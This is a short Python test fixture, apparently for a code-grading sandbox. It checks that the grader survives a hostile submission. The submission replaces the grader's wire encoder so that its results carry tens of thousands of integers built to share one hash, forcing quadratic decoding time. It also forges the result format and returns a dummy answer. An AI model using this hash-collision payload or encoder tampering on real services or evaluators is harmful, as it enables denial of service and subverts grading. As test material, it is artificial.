"""Answers with dicts of integers that all have the same hash, so that reading them takes the square of their number.

expects: crashed
levels: sandbox
against: numpy
"""

import struct
import sys

wire = sys.modules["grader.sandbox.wire"]
encode = wire.encode
PRIME = 2**61 - 1
BASE = PRIME << 800


def number(value):
    data = value.to_bytes(value.bit_length() // 8 + 1, "big", signed=True)
    return b"i" + struct.pack(">I", len(data)) + data


ONE = b"d" + struct.pack(">I", 9_999) + b"".join(number(BASE + PRIME * i) + b"N" for i in range(9_999))
ALL = b"l" + struct.pack(">I", 45) + ONE * 45


def forged(value, *rest):
    if type(value) is list and len(value) == 4 and value[1] == "ok":
        return b"l" + struct.pack(">I", 4) + encode(value[0]) + encode("ok") + ALL + encode(())
    return encode(value, *rest)


wire.encode = forged


def double(x):
    return 0.0
